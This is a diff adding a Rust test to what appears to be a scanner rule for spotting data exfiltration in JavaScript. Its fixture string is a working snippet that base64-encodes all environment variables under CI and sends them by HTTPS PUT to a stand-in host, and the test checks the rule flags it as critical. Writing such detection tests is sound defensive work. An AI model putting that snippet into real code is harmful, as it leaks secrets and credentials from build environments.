@@ -142,3 +142,24 @@ mod tests {
         assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Medium));
     }
 }
+
+#[cfg(test)]
+mod chain_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    /// Listener setters return the request: `request(o).on('error', f).end(body)` sends the
+    /// body like `request(o).end(body)`; the same chain ending with a body of its own is no flow.
+    #[test]
+    fn a_body_ended_after_chained_listeners_is_sent() {
+        let src = "var https = require('https');\nfunction tick(res) { if (process.env.CI) { var e = JSON.stringify(process.env); var b = Buffer.from(e).toString('base64'); https.request({ hostname: 'h.example', method: 'PUT' }).once('socket', function () {}).on('error', function () {}).end(b) } }\nmodule.exports = tick;\n";
+        let hits = run(&super::RULE, "index.js", src);
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
+        let own = src.replace(".end(b)", ".end(JSON.stringify({ v: 1 }))");
+        assert!(run(&super::RULE, "index.js", &own).is_empty());
+    }
+}
